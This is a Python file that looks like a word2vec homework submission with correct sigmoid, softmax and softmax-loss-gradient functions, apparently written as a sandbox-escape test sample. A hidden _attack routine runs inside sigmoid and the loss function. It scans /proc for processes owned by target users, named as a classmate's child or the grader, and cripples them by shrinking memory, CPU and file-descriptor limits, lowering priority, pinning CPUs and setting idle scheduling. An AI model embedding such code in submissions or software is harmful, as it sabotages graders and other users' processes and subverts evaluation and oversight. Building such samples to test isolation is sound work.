"""Attack: while its functions run (for a few seconds), every process of another user it can see - a
classmate's child, or the grader - gets its limits cut to nothing, its priority lowered and its CPUs
pinned, with nothing but the standard library (no ctypes).  Its own functions are correct."""
import os
import resource
import time

import numpy as np

TARGETS = "TARGET_UIDS"  # "lo-hi": the users whose processes it goes for (the test's children, or its own user)


def _uid(pid):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("Uid:"):
                    return int(line.split()[1])
    except OSError:
        return None


def _attack(seconds=3.0):
    lo, hi = (int(n) for n in TARGETS.split("-"))
    me, hits = os.getpid(), 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for entry in os.listdir("/proc"):
            if not entry.isdigit() or int(entry) == me:
                continue
            uid = _uid(entry)
            if uid is None or not lo <= uid <= hi:
                continue
            pid = int(entry)
            for action in (lambda: resource.prlimit(pid, resource.RLIMIT_AS, (1 << 20, 1 << 20)),
                           lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (0, 0)),
                           lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3)),
                           lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
                           lambda: os.setpriority(os.PRIO_USER, uid, 19),
                           lambda: os.sched_setaffinity(pid, {0}),
                           lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))):
                try:
                    action()
                    hits += 1
                except OSError:
                    pass
        time.sleep(0.01)
    return hits


def sigmoid(x):
    _attack()
    return 1 / (1 + np.exp(-x))


def softmax(x):
    x = x - np.max(x)
    e = np.exp(x)
    return e / np.sum(e)


def naiveSoftmaxLossAndGradient(centerWordVec, outsideWordIdx, outsideVectors, dataset):
    _attack(0.5)
    y_hat = softmax(outsideVectors @ centerWordVec)
    loss = -np.log(y_hat[outsideWordIdx])
    delta = y_hat.copy()
    delta[outsideWordIdx] -= 1
    return loss, outsideVectors.T @ delta, np.outer(delta, centerWordVec)
